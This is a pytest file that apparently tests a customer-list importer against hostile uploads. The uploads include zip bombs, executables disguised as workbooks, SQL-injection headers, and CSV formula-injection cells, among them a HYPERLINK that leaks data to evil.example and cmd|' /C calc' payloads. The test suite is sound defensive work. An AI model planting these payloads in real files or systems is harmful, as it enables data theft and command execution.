"""Hostile files end to end: a generated corpus through the workspace, the `icp` command and the app.

Every file is either read correctly (the values that come out are asserted) or refused with one
sentence naming the file and the problem; a refusal leaves the workspace exactly as it was, writes
no output folder and shows no traceback. The reader's own tests (tests/test_reader.py) cover the
detail of each format; this file checks the three ways a file comes in.
"""

import codecs
import csv
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from icp.cells import neutralize
from icp.data.workspace import Workspace
from icp.errors import InputFileError
from tests.hostile import (
    _VARIED_ROWS,
    MB,
    SST_4E9,
    _bomb,
    _corner,
    _sheet_workbook,
    _text_cell,
    _workbook_bytes,
)
from tests.literal_text import shown

ROOT = Path(__file__).resolve().parents[1]
PEAK_MB = 600  # memory a refused bomb may cost a process, all imports included
GOOD = "good customers.csv"
GOOD_CUSTOMERS = (
    "Company name,Website,Industry,Employees,ARR,Churned\n"
    "Northwind,northwind.io,Fintech,120,48000,No\n"
    "Contoso,contoso.com,Retail,15,6000,Yes\n"
    "Fabrikam,fabrikam.net,Fintech,300,90000,No\n"
)
OUTPUT_FILES = {"icp.json", "icp.pdf", "market.json", "scoring.sql", "segments.csv", "targets.csv", "targets.xlsx"}
NOT_EXCEL = r"not a valid Excel workbook \(the file is damaged or truncated\)\."


# --- the corpus --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One file of the corpus and what must come of it.

    ``problem`` is a regex for the whole problem sentence of a refusal (None: the file is read).
    For a file that is read, ``columns`` and ``raw`` are the uploaded columns and rows exactly as
    they must sit in ``raw_customers``, and ``names`` the company names of the normalized list.
    """

    id: str
    name: str
    make: Callable[[Path], None]
    problem: str | None = None
    env: dict[str, str] = field(default_factory=dict)
    columns: list[str] | None = None
    raw: list[list[str | None]] | None = None
    names: list[str] | None = None
    encoding: str | None = None
    delimiter: str | None = None
    isolated: bool = False  # run the engine call in its own process and bound its memory
    seconds: int = 60


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _text(text: str, encoding: str = "utf-8", prefix: bytes = b"") -> Callable[[Path], None]:
    return _bytes(prefix + text.encode(encoding))


def _rows_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows([header, *rows])
    return out.getvalue()


GOOD_ROWS = [line.split(",") for line in GOOD_CUSTOMERS.splitlines()]


def _truncated_workbook(path: Path) -> None:
    whole = _workbook_bytes(GOOD_ROWS)
    path.write_bytes(whole[: len(whole) // 2])


BEYOND_EXCEL = r"beyond the last cell an Excel sheet can have \(XFD1048576\); the file is damaged\."


def _declared_mb(path: Path) -> str:
    return f"{sum(i.file_size for i in zipfile.ZipFile(path).infolist()) / MB:,.0f}"


UTF16 = [
    ["Company name", "Website", "City", "ARR"],
    ["Zürich Bank AG", "zuerich-bank.ch", "Zürich 😀", "48000"],
    ["Łódź Software", "lodz.pl", "Łódź", "12000"],
    ["Ελληνική ΑΕ", "ellas.gr", "Αθήνα", "30000"],
]
LATIN1 = [
    ["Company name", "Website", "Industry", "City", "ARR"],
    ["Café Müller", "cafe-mueller.de", "Gastronomie", "München", "48000"],
    ["École Française SA", "ecole.fr", "Éducation", "Besançon", "12000"],
    ["Señor Niño SL", "senor.es", "Alimentación", "Logroño", "30000"],
]
BOM_CRLF = [
    ["Company name", "Website", "Industry", "ARR"],
    ["Acme", "acme.io", "Fintech", "48000"],
    ["Beta", "beta.io", "Retail", "6000"],
    ["Gamma", "gamma.io", "Media", "9000"],
]
SQL_HEADERS = [
    ["Company name", 'x"; DROP TABLE t; --', "Industry", "ARR", "'); DROP TABLE customers; --"],
    ["Acme", "1", "Fintech", "48000", "Robert'); DROP TABLE _lists;--"],
    ["Beta", "2", "Retail", "6000", '"; DELETE FROM _meta; --'],
    ["Gamma", "3", "Media", "9000", "x"],
]
FORMULAS = [
    ["Company name", "Website", "Industry", "ARR"],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "evil.example", "Fintech", "48000"],
    ["+cmd|' /C calc'!A0", "plus.example", "Retail", "6000"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "at.example", "=1+1", "9000"],
    ["-2+3+cmd|' /C calc'!A0", "minus.example", "Fintech", "12000"],
]
NEWLINES = [
    ["Company name", "Website", "Notes", "ARR"],
    ["Acme", "acme.io", "line one\r\nline two", "48000"],
    ["Beta", "beta.io", 'a "quoted" word\nand a, comma', "6000"],
    ["Gamma", "gamma.io", "plain", "9000"],
]
DUPLICATES = [
    ["Company name", "", "Company name", "Website", " ", "ARR", "company NAME"],
    ["Acme", "x1", "Acme Two", "acme.io", "y1", "48000", "z1"],
    ["Beta", "x2", "Beta Two", "beta.io", "y2", "6000", "z2"],
    ["Gamma", "x3", "Gamma Two", "gamma.io", "y3", "9000", "z3"],
]
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"


def _read(case_rows: list[list[str]], **kwargs) -> dict:
    """What a file that is read must give: its columns and rows as written, its company names."""
    return {"columns": case_rows[0], "raw": case_rows[1:], "names": [r[0] for r in case_rows[1:]], **kwargs}


CASES = [
    Case("empty", "empty.csv", _bytes(b""), r"the file is empty\."),
    Case("header-only", "header only.csv", _text("Company name,Website,Industry\r\n"),
         r"the file has a header row but no data rows\."),
    Case("binary-as-csv", "random bytes.csv", _bytes(random.Random(7).randbytes(50_000)),
         r"not a text spreadsheet: the content is binary\. Upload a CSV or text file, an Excel workbook "
         r"or a Parquet file\."),
    Case("executable-as-xlsx", "invoice.xlsx", _bytes(ELF + random.Random(8).randbytes(30_000)), NOT_EXCEL),
    Case("truncated-xlsx", "cut in half.xlsx", _truncated_workbook, NOT_EXCEL),
    # 1.2 GB of sheet XML in about 4 MB: refused from the sizes the archive declares, never inflated.
    Case("zip-bomb", "bomb.xlsx", lambda p: _bomb(p, 1200),
         r"the file would take {declared} MB once uncompressed, over the limit of 1,024 MB\.", isolated=True),
    # Under the size limit but compressed far beyond any real workbook.
    Case("zip-bomb-ratio", "ratio bomb.xlsx", lambda p: _bomb(p, 64),
         r"the workbook is compressed [0-9,]+ times, far more than a real spreadsheet; it is refused as a "
         r"possible zip bomb\."),
    # An archive that declares a small sheet but inflates to 300 MB: the size checks pass, reading stops.
    Case("zip-bomb-lying-sizes", "lying sizes.xlsx", lambda p: _bomb(p, 300, declared_mb=1), NOT_EXCEL,
         isolated=True),
    # An honest workbook over a limit set low by the environment.
    Case("inflated-limit", "workbook.xlsx",
         lambda p: p.write_bytes(_workbook_bytes(GOOD_ROWS[:1] + [[f"Company {i}", f"c{i}.io", "Retail", i, 1000,
                                                                   "No"] for i in range(8000)])),
         r"the file would take {declared} MB once uncompressed, over the limit of 1 MB\.",
         env={"ICP_MAX_INFLATED_MB": "1"}),
    Case("10000-columns", "wide.csv",
         _text(",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" * 10_000) + "\n"),
         r"the file has 10,000 columns, over the limit of 1,000\."),
    # DuckDB's sniffer alone took half a minute on this one: it must be refused in well under that.
    Case("100000-columns", "wider.csv",
         _text(",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join("1" * 100_000) + "\n"),
         r"the file has 100,000 columns, over the limit of 1,000\.", seconds=20),
    Case("million-char-cell", "essay.csv", _text("Company name,Notes\nAcme,short\nBeta," + "x" * 1_000_000 + "\n"),
         r"a cell in column 'Notes' has 1,000,000 characters, over the limit of 100,000\.", isolated=True),
    Case("oversize", "big.csv",
         _text(GOOD_CUSTOMERS + "".join(f"Company {i},c{i}.io,Retail,10,1000,No\n" for i in range(40_000))),
         r"the file is 1\.[0-9] MB, over the limit of 1 MB\.", env={"ICP_MAX_FILE_MB": "1"}),
    Case("utf-16", "utf16.csv", _text(_rows_text(UTF16[0], UTF16[1:], newline="\r\n"), "utf-16-le",
                                      codecs.BOM_UTF16_LE), **_read(UTF16, encoding="utf-16", delimiter=",")),
    Case("latin-1-semicolons", "kunden latin1.csv", _text(_rows_text(LATIN1[0], LATIN1[1:], ";"), "latin-1"),
         **_read(LATIN1, encoding="latin-1", delimiter=";")),
    Case("bom-crlf", "bom crlf.csv", _text(_rows_text(BOM_CRLF[0], BOM_CRLF[1:], newline="\r\n"),
                                           prefix=codecs.BOM_UTF8),
         **_read(BOM_CRLF, encoding="utf-8-sig", delimiter=",")),
    Case("sql-headers", "sql headers.csv", _text(_rows_text(SQL_HEADERS[0], SQL_HEADERS[1:])), **_read(SQL_HEADERS)),
    Case("formula-cells", "formulas.csv", _text(_rows_text(FORMULAS[0], FORMULAS[1:])), **_read(FORMULAS)),
    Case("quoted-newlines", "newlines.csv", _text(_rows_text(NEWLINES[0], NEWLINES[1:], newline="\r\n")),
         **_read(NEWLINES)),
    Case("duplicate-blank-headers", "duplicates.csv", _text(_rows_text(DUPLICATES[0], DUPLICATES[1:])),
         **(_read(DUPLICATES) | {"columns": ["Company name", "column_2", "Company name_2", "Website", "column_5",
                                             "ARR", "company NAME_3"]})),
]
CASES += [
    # A few kB each; the reader (python-calamine) would allocate rows × columns, or the declared count,
    # before anything could look, and abort the process when it cannot: refused from what they declare
    # and hold, scanned before the reader sees them.
    Case("cells-a1-and-xfd1048576", "corner.xlsx", _corner("XFD1048576"),
         r"sheet 'Data' spans A1:XFD1048576, 17,179,869,184 cells, over the limit of 10,000,000 for one sheet; "
         r"delete what lies outside the table, or save the sheet as CSV and upload that\.", isolated=True),
    Case("cells-a1-and-cv1048576", "corner cv.xlsx", _corner("CV1048576"),
         r"sheet 'Data' spans A1:CV1048576, 104,857,600 cells, over the limit of 10,000,000 for one sheet; "
         r"delete what lies outside the table, or save the sheet as CSV and upload that\.", isolated=True),
    Case("shared-strings-count-4e9", "strings.xlsx",
         _sheet_workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>',
                         SST_4E9),
         r"the workbook declares 4,000,000,000 shared strings but holds 2; the file is damaged\.", isolated=True),
    Case("cell-a99999999999", "far cell.xlsx",
         _sheet_workbook(f'<row r="1">{_text_cell("A1", "Company name")}{_text_cell("A99999999999", "x")}</row>'),
         r"sheet 'Data' has a cell at A99999999999, " + BEYOND_EXCEL, isolated=True),
    # 48 MB of rows in 0.4 MB, deflated under the zip-bomb ratio: refused by the rows it really holds,
    # counted in the scan, before the reader allocates for them. (At 1 GB, 10.8 million rows, the scan
    # stops at Excel's last row, 1,048,576, whatever the row limit: see docs/reliability.md.)
    Case("rows-past-the-limit", "rows.xlsx", lambda p: _bomb(p, 48, chunk=_VARIED_ROWS),
         r"sheet 'Sheet' has more than 100,000 data rows, the limit\.", env={"ICP_MAX_ROWS": "100000"},
         isolated=True),
    # The reader's process ran out of its memory: one sentence, and the server's process never knew.
    Case("excel-memory-limit", "needs memory.xlsx", lambda p: p.write_bytes(_workbook_bytes(GOOD_ROWS)),
         r"reading the workbook takes more memory than the limit of 50 MB; save the sheet as CSV and upload "
         r"that instead\.", env={"ICP_MAX_EXCEL_MB": "50"}),
]
BY_ID = {case.id: case for case in CASES}


def _params(cases: list[Case], seconds: int | None = None) -> list:
    return [pytest.param(c, id=c.id, marks=pytest.mark.timeout(seconds or c.seconds)) for c in cases]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    """Every file of the corpus, written once; each in a folder of its own, under its own name."""
    root = tmp_path_factory.mktemp("corpus")
    files = {}
    for case in CASES:
        folder = root / case.id
        folder.mkdir()
        case.make(folder / case.name)
        files[case.id] = folder / case.name
    return files


def problem_of(case: Case, path: Path) -> str:
    """The expected problem sentence as a regex (the declared size of the bomb comes from the file)."""
    assert case.problem is not None
    return case.problem.replace("{declared}", _declared_mb(path)) if "{declared}" in case.problem else case.problem


# --- the engine --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A workspace file holding a good customers list, copied for each test."""
    folder = tmp_path_factory.mktemp("template")
    (folder / GOOD).write_text(GOOD_CUSTOMERS)
    workspace = Workspace.create("Hostile files", folder=folder)
    workspace.add_list("customers", folder / GOOD)
    return workspace.path


@pytest.fixture
def workspace(template) -> Workspace:
    return Workspace.copy_of(template, "Hostile files")


def state(workspace: Workspace) -> dict:
    """All a workspace holds: its data version, list reports and every table's rows (as text)."""
    con = duckdb.connect(str(workspace.path), read_only=True)
    try:
        tables = [t for (t,) in con.execute(
            "SELECT table_name FROM duckdb_tables() WHERE NOT temporary ORDER BY 1").fetchall()]
        rows = {t: con.execute(f'SELECT COLUMNS(*)::VARCHAR FROM "{t}" ORDER BY ALL').fetchall() for t in tables}
    finally:
        con.close()
    return {
        "data_version": workspace.data_version,
        "lists": {kind: report.model_dump() for kind, report in workspace.lists().items()},
        "tables": rows,
    }


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float


def hwm_mb(pid: int) -> float:
    """The peak resident memory of a running process's own address space (VmHWM), 0 once it has exited.
    Not wait4's ru_maxrss: Linux carries the parent's peak across fork and exec into it, so a child
    of a large pytest process would report pytest's memory, not its own."""
    try:
        with open(f"/proc/{pid}/status") as status:
            return next((int(line.split()[1]) / 1024 for line in status if line.startswith("VmHWM:")), 0.0)
    except OSError:
        return 0.0


def run_measured(args: list[str], timeout: float, env: dict[str, str] | None = None) -> Run:
    """Run a process to its end (killed past ``timeout``), with its own peak memory (VmHWM, polled)."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.monotonic()
        process = subprocess.Popen(args, stdout=out, stderr=err, cwd=ROOT, env=env)
        peak = 0.0
        while True:
            peak = max(peak, hwm_mb(process.pid))
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - started > timeout:
                process.kill()
                os.wait4(process.pid, 0)
                process.returncode = -9
                pytest.fail(f"{args[:3]} did not finish within {timeout} s")
            time.sleep(0.02)
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return Run(process.returncode, out.read().decode(), err.read().decode(), time.monotonic() - started, peak)


_ADD_LIST = """
import json, sys
from icp.errors import InputFileError
from icp.data.workspace import Workspace
try:
    report = Workspace(sys.argv[1]).add_list("customers", sys.argv[2], display_name=sys.argv[3])
except InputFileError as err:
    print(json.dumps({"file": err.file, "problem": err.problem}))
else:
    print(json.dumps({"rows": report.rows_kept}))
"""


def add_list(workspace: Workspace, case: Case, path: Path):
    """``add_list`` as the app calls it; an isolated case runs in a process of its own whose memory
    and time are bounded. Returns the report, or the InputFileError."""
    if not case.isolated:
        try:
            return workspace.add_list("customers", path, display_name=case.name)
        except InputFileError as err:
            return err
    run = run_measured([sys.executable, "-c", _ADD_LIST, workspace.id, str(path), case.name], timeout=45,
                       env=dict(os.environ))
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    # Inflating the bomb's 1.2 GB of rows would take gigabytes and far longer than this.
    assert run.peak_mb < PEAK_MB, f"{case.id} took {run.peak_mb:.0f} MB"
    assert run.seconds < 20, f"{case.id} took {run.seconds:.0f} s"
    result = json.loads(run.stdout)
    return InputFileError(result["file"], result["problem"]) if "problem" in result else workspace.report("customers")


@pytest.mark.parametrize("case", _params(CASES))
def test_engine(case, corpus, workspace, monkeypatch):
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    before = state(workspace)
    outcome = add_list(workspace, case, corpus[case.id])

    if case.problem is not None:
        assert isinstance(outcome, InputFileError), f"{case.id} was read: {outcome}"
        assert outcome.file == case.name
        assert re.fullmatch(problem_of(case, corpus[case.id]), outcome.problem), outcome.problem
        assert str(outcome) == f"{case.name}: {outcome.problem}"
        assert state(workspace) == before
        return
    assert not isinstance(outcome, Exception), outcome
    report = workspace.report("customers")
    assert (report.file, report.rows_read, report.rows_kept) == (case.name, len(case.raw), len(case.raw))
    assert [c.source for c in report.columns] == case.columns
    if case.encoding:
        assert (report.encoding, report.delimiter) == (case.encoding, case.delimiter)
    raw = workspace.frame("raw_customers")
    assert list(raw.columns) == ["_row", *case.columns]
    assert raw.drop(columns="_row").values.tolist() == case.raw
    assert workspace.frame("customers")["account_name"].tolist() == case.names
    # Whatever the headers and cells said, nothing else in the workspace was touched.
    after = state(workspace)
    assert after["data_version"] == before["data_version"] + 1
    assert dict(after["tables"]["_meta"]) == dict(before["tables"]["_meta"]) | {
        "data_version": str(after["data_version"])}
    assert set(after["tables"]) == set(before["tables"])


def test_formula_looking_cells_stay_text_in_every_column(corpus, workspace):
    workspace.add_list("customers", corpus["formula-cells"], display_name="formulas.csv")
    rows = workspace.frame("customers")
    assert rows["account_name"].tolist() == [r[0] for r in FORMULAS[1:]]
    assert rows["domain"].tolist() == [r[1] for r in FORMULAS[1:]]
    assert rows["arr"].tolist() == [float(r[3]) for r in FORMULAS[1:]]
    assert "=1+1" in set(rows["industry"])


# --- the app -----------------------------------------------------------------------------------

APP_CASES = ["empty", "binary-as-csv", "executable-as-xlsx", "zip-bomb", "10000-columns", "oversize",
             "formula-cells", "cells-a1-and-xfd1048576", "cells-a1-and-cv1048576", "shared-strings-count-4e9",
             "cell-a99999999999", "rows-past-the-limit", "excel-memory-limit"]
MIME = {".csv": "text/csv", ".xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


def _sidebar(at: AppTest) -> list[str]:
    return [m.value for m in at.sidebar.markdown]


@pytest.mark.parametrize("case", _params([BY_ID[i] for i in APP_CASES]))
def test_app(case, corpus, workspace, monkeypatch):
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    before = state(workspace)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["ws"] = workspace.id
    at.switch_page("views/data.py").run()
    sidebar = _sidebar(at)
    assert any(GOOD in line for line in sidebar), sidebar

    path = corpus[case.id]
    at.file_uploader[0].set_value((case.name, path.read_bytes(), MIME[path.suffix]))
    at.run()
    [load] = [b for b in at.button if b.label.startswith(("Replace the customers", "Load as customers"))]
    if not load.disabled:  # a workbook whose sheets cannot be listed is refused on upload
        load.click().run()
    assert not at.exception, at.exception

    if case.problem is not None:
        errors = [shown(e.value) for e in at.error]  # the text shown, markdown escapes resolved
        expected = re.escape(case.name) + ": " + problem_of(case, path) + r" Nothing in the workspace was changed\."
        assert len(errors) == 1 and re.fullmatch(expected, errors[0]), errors
        assert not at.success
        assert state(workspace) == before
        assert _sidebar(at) == sidebar
        return
    assert not at.error, [e.value for e in at.error]
    assert any(case.name in s.value and f"{len(case.raw)} customers" in s.value for s in at.success)
    assert workspace.data_version == before["data_version"] + 1
    assert any(case.name in line for line in _sidebar(at)) and not any(GOOD in line for line in _sidebar(at))
    previews = [d.value for d in at.dataframe if list(d.value.columns) == case.columns]
    assert previews and previews[0].values.tolist() == case.raw


# --- the command line --------------------------------------------------------------------------
# `icp build` imports the whole analysis stack (seconds) before it reads a file. The runner below
# pays that once and runs each case as `python -m icp build ...` in a fork of itself: a process of
# its own with its own exit status, stdout, stderr and peak memory. It starts with the module and
# works through the cases while the engine and app tests run; test_cli_runner_matches_python_m_icp
# checks it against a plain `python -m icp` process.

_RUNNER = r'''
import json, os, runpy, sys, time, traceback

import icp.export.build  # noqa: F401
import icp.cli  # noqa: F401

jobs = json.loads(open(sys.argv[1]).read())
results = {}
for job in jobs:
    sys.stdout.flush()
    sys.stderr.flush()
    started = time.monotonic()
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            for fd, name in ((1, job["stdout"]), (2, job["stderr"])):
                target = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
                os.dup2(target, fd)
                os.close(target)
            os.environ.update(job["env"])
            sys.argv = ["icp", *job["args"]]
            try:
                runpy.run_module("icp", run_name="__main__", alter_sys=True)
                code = 0
            except SystemExit as exit_:
                code = exit_.code if isinstance(exit_.code, int) else (0 if exit_.code is None else 1)
                if isinstance(exit_.code, str):
                    print(exit_.code, file=sys.stderr)
            except BaseException:
                traceback.print_exc()
        finally:
            try:
                sys.stdout.flush()
                sys.stderr.flush()
            finally:
                os._exit(code)
    peak = 0.0
    while True:
        try:  # VmHWM, not wait4's ru_maxrss, which Linux carries over from the parent (see hwm_mb)
            with open(f"/proc/{pid}/status") as proc_status:
                peak = max([peak] + [int(line.split()[1]) / 1024 for line in proc_status if line.startswith("VmHWM:")])
        except OSError:
            pass
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            break
        if time.monotonic() - started > job["timeout"]:
            os.kill(pid, 9)
            done, status, usage = os.wait4(pid, 0)
            break
        time.sleep(0.01)
    results[job["id"]] = {"returncode": os.waitstatus_to_exitcode(status),
                          "seconds": time.monotonic() - started, "peak_mb": peak}
    with open(sys.argv[2] + ".tmp", "w") as f:
        json.dump(results, f)
    os.replace(sys.argv[2] + ".tmp", sys.argv[2])
'''


class CliRuns:
    """The runner process and the results it has written so far."""

    def __init__(self, folder: Path, process: subprocess.Popen, log: Path):
        self.folder, self.process, self.log = folder, process, log

    def out_dir(self, case: Case) -> Path:
        return self.folder / case.id / "out"

    def result(self, case: Case, timeout: float = 170) -> Run:
        deadline = time.monotonic() + timeout
        results = self.folder / "results.json"
        while time.monotonic() < deadline:
            done = json.loads(results.read_text()) if results.exists() else {}
            if case.id in done:
                found = done[case.id]
                return Run(found["returncode"], (self.folder / case.id / "stdout").read_text(),
                           (self.folder / case.id / "stderr").read_text(), found["seconds"], found["peak_mb"])
            if self.process.poll() is not None and case.id not in done:
                pytest.fail(f"the CLI runner stopped ({self.process.returncode}): {self.log.read_text()[-2000:]}")
            time.sleep(0.1)
        pytest.fail(f"no CLI result for {case.id} within {timeout} s")


@pytest.fixture(scope="module", autouse=True)
def cli_runs(corpus, tmp_path_factory):
    """Starts at once, so the CLI cases run alongside the rest of the module."""
    folder = tmp_path_factory.mktemp("cli")
    env = {k: v for k, v in os.environ.items() if not k.startswith("ICP_MAX_")}
    env["ICP_DATA_DIR"] = str(tmp_path_factory.mktemp("cli-data"))
    jobs = []
    for case in CASES:
        (folder / case.id).mkdir()
        jobs.append({
            "id": case.id, "timeout": 90, "env": case.env,
            "args": ["build", "--customers", str(corpus[case.id]), "--out", str(folder / case.id / "out")],
            "stdout": str(folder / case.id / "stdout"), "stderr": str(folder / case.id / "stderr"),
        })
    (folder / "jobs.json").write_text(json.dumps(jobs))
    log = folder / "runner.log"
    with open(log, "wb") as log_file:
        process = subprocess.Popen([sys.executable, "-c", _RUNNER, str(folder / "jobs.json"), str(folder / "results.json")],
                                   cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=log_file,
                                   start_new_session=True)
    yield CliRuns(folder, process, log)
    if process.poll() is None:  # stopped early (-k, -x): end the runner and the case it is running
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def _targets(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


# Each case's own time is bounded by the runner (and checked below); the test may wait for the queue.
@pytest.mark.slow
@pytest.mark.parametrize("case", _params(CASES, seconds=180))
def test_cli(case, cli_runs, corpus):
    run = cli_runs.result(case)
    out = cli_runs.out_dir(case)
    assert run.seconds < case.seconds, f"{case.id} took {run.seconds:.0f} s"
    assert "Traceback" not in run.stderr, run.stderr
    if case.problem is not None:
        assert run.returncode == 2, (run.returncode, run.stderr)
        lines = run.stderr.splitlines()
        expected = "error: " + re.escape(str(corpus[case.id])) + ": " + problem_of(case, corpus[case.id])
        assert len(lines) == 1 and re.fullmatch(expected, lines[0]), run.stderr
        assert run.stdout == ""
        # No output folder at all, not even an empty one or a scratch folder beside it.
        assert sorted(p.name for p in out.parent.iterdir()) == ["stderr", "stdout"]
        if case.isolated:
            assert run.peak_mb < PEAK_MB, f"{case.id} took {run.peak_mb:.0f} MB"
        return
    assert run.returncode == 0, run.stderr
    assert {p.name for p in out.iterdir()} == OUTPUT_FILES
    targets = _targets(out / "targets.csv")
    assert list(targets[0])[: len(case.columns)] == [neutralize(c) for c in case.columns]
    assert sorted(t[neutralize(case.columns[0])] for t in targets) == sorted(neutralize(n) for n in case.names)
    assert len(targets) == len(case.raw)


@pytest.mark.timeout(60)
def test_cli_runner_matches_python_m_icp(cli_runs, corpus, tmp_path):
    """The forked runner gives what a plain `python -m icp build` process gives, byte for byte."""
    case = BY_ID["zip-bomb"]
    out = tmp_path / "out"
    run = run_measured([sys.executable, "-m", "icp", "build", "--customers", str(corpus[case.id]),
                        "--out", str(out)], timeout=45)
    forked = cli_runs.result(case)
    assert (run.returncode, run.stdout, run.stderr) == (forked.returncode, forked.stdout, forked.stderr)
    assert run.returncode == 2 and run.stderr.startswith(f"error: {corpus[case.id]}: ")
    assert not out.exists() and run.peak_mb < PEAK_MB
